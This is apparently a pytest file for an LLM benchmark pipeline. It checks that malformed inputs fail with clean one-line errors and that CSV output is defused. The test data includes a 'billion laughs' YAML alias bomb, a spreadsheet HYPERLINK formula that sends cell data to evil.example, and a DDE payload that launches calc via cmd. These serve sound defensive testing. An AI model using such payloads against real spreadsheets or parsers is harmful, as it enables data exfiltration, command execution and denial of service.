"""Bad inputs of issue 27, each one line (or a defused cell), no traceback, nothing written that looks complete:
a config with YAML aliases, a question file with bytes that are not UTF-8, a judge's reason that a spreadsheet
would run as a formula; and the files the pipeline writes follow the umask."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from openai_stub_server import StubServer, chat_reply
from pipeline_helpers import REPO
from slmbench.config import load_config
from slmbench.csv_text import excel_safe
from slmbench.errors import UserError
from slmbench.judge.runner import judge_shard
from slmbench.questions import read_questions
from slmbench.records import atomic_output, write_jsonl
from slmbench.scores import merge_score_files, read_score_rows

SRC = str(REPO / "src")
DEMO = (REPO / "config" / "demo.yaml").read_text()


def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "slmbench.cli", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=300, env={**os.environ, "PYTHONPATH": SRC})


def laughs(depth: int = 9) -> str:
    """A config whose free-form chat_template_kwargs nests aliases: 10**depth values once anything walks it."""
    lines = ["x0: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"x{i}: &x{i} [" + ", ".join([f"*x{i - 1}"] * 10) + "]" for i in range(1, depth)]
    return DEMO.replace("    chat_template_kwargs: null",
                        "    chat_template_kwargs:\n" + "\n".join("      " + line for line in lines), 1)


def test_a_config_with_yaml_aliases_is_one_line_naming_file_and_line(tmp_path):
    bad = tmp_path / "laughs.yaml"
    bad.write_text(laughs())
    t0 = time.monotonic()
    with pytest.raises(UserError) as err:
        load_config([str(bad)])
    line = DEMO.splitlines().index("    chat_template_kwargs: null") + 3  # the first alias: *x0 on the x1 line
    assert str(err.value).startswith(f"{bad}, line {line}: a YAML alias (*x0) is not allowed in a config; write "
                                     f"the value out in full")
    assert time.monotonic() - t0 < 5
    proc = cli("status", "--configfile", str(bad), cwd=tmp_path)
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1 and "YAML alias" in proc.stderr


def test_an_anchor_without_an_alias_is_plain_yaml(tmp_path):
    fine = tmp_path / "anchor.yaml"
    fine.write_text(DEMO.replace("results_dir: results/demo", "results_dir: &where results/demo"))
    assert load_config([str(fine)])["results_dir"] == "results/demo"


@pytest.mark.slow
def test_a_dry_run_of_an_aliased_config_is_one_line_in_seconds_and_writes_nothing(tmp_path):
    import shutil

    shutil.copytree(REPO / "config", tmp_path / "config")
    (tmp_path / "config" / "laughs.yaml").write_text(laughs())
    t0 = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "snakemake", "-s", str(REPO / "Snakefile"), "-n", "--cores", "1",
                           "--configfile", "config/laughs.yaml"], cwd=tmp_path, capture_output=True, text=True,
                          timeout=300)
    assert proc.returncode != 0 and time.monotonic() - t0 < 60  # was 103 s and 2.8 GB
    ours = [line for line in proc.stderr.splitlines() if "YAML alias" in line]
    assert len(ours) == 1 and "config/laughs.yaml, line" in ours[0] and "Traceback" not in proc.stderr
    assert not (tmp_path / "results").exists()


def test_a_question_file_that_is_not_utf8_names_file_and_line(tmp_path):
    good = {"question_id": 1, "category": "math", "turns": ["What is 2+2?"]}
    bad = tmp_path / "question.jsonl"
    latin1 = b'{"question_id": 2, "category": "math", "turns": ["caf\xe9"]}\n'  # saved by an old editor
    bad.write_bytes(json.dumps(good).encode() + b"\n" + latin1)
    with pytest.raises(UserError) as err:
        read_questions(bad)
    assert str(err.value).startswith(f"{bad} line 2: not UTF-8 text (byte 0xe9 at column ")
    out = tmp_path / "generated_prompts.xlsx"
    proc = cli("prompts", "generate", "--questions", str(bad), "--out", str(out), cwd=tmp_path)
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1 and "line 2: not UTF-8" in proc.stderr, proc.stderr
    assert not out.exists()
    runs = tmp_path / "runs.jsonl"
    write_jsonl(runs, [{"question_id": 1, "category": "math", "model_id": "m", "level": "L0", "status": "ok",
                        "output": "4"}])
    scores = tmp_path / "scores.csv"
    proc = cli("judge", "--questions", str(bad), "--runs", str(runs), "--out", str(scores), "--config",
               str(REPO / "config/demo.yaml"), "--cache", str(tmp_path / "c.sqlite"), cwd=tmp_path)
    assert proc.returncode == 2 and "line 2: not UTF-8" in proc.stderr and "Traceback" not in proc.stderr
    assert not scores.exists()


def test_a_config_that_is_not_utf8_names_file_and_line(tmp_path):
    bad = tmp_path / "config.yaml"
    bad.write_bytes(DEMO.encode().replace(b"results_dir: results/demo", b"results_dir: r\xe9sultats"))
    with pytest.raises(UserError, match=r"config\.yaml, line \d+: not UTF-8 text \(byte 0xe9\)"):
        load_config([str(bad)])


FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


def test_a_reason_that_is_a_formula_is_defused_in_every_scores_csv(tmp_path, clean_env):
    runs = tmp_path / "shard.jsonl"
    write_jsonl(runs, [{"question_id": 1, "category": "math", "model_id": "m", "level": "L0", "status": "ok",
                        "output": "4"}])
    prompts = tmp_path / "math_prompts_hierarchical.csv"
    prompts.write_text("question_id,category,level,prompt\n1,math,L0,What is 2+2?\n")
    verdict = {"explanation": FORMULA, "factuality": 2.5, "helpfulness": 2.5, "structure": 2.5, "conciseness": 2.5}
    reply = chat_reply(json.dumps(verdict), model="@SUM(1+1)*cmd|' /C calc'!A0")
    with StubServer(lambda n, body: (200, {}, reply)) as server:
        settings = {"backend": "openai", "model": "j", "base_url": server.base_url, "api_key_env": None,
                    "temperature": 0, "max_tokens": 64, "timeout_s": 10, "max_retries": 0, "concurrency": 1,
                    "repeats": 1, "sleep_s": 0, "cache": str(tmp_path / "c.sqlite"), "name": "j"}
        shard_scores = judge_shard(runs, prompts, None, tmp_path / "scores" / "m.csv", settings)
    merged = merge_score_files([shard_scores], tmp_path / "scores_absolute.csv")
    for path in (shard_scores, merged):
        with open(path, encoding="utf-8", newline="") as fh:
            row = next(csv.DictReader(fh))
        assert row["reason"] == "'" + FORMULA and row["judge_model"].startswith("'@SUM")
        assert row["total_score"] == "10.0"  # numbers stay numbers
        assert read_score_rows(path)[0].reason == FORMULA  # and it reads back as the judge wrote it
    assert excel_safe(excel_safe(FORMULA)) == excel_safe(FORMULA)


def test_atomic_files_follow_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        with atomic_output(tmp_path / "a.txt") as fh:
            fh.write("x")
        os.umask(0o027)
        with atomic_output(tmp_path / "b.txt") as fh:
            fh.write("x")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "a.txt").stat().st_mode) == 0o644
    assert stat.S_IMODE((tmp_path / "b.txt").stat().st_mode) == 0o640
    assert not [p for p in Path(tmp_path).iterdir() if p.name.startswith(".")]
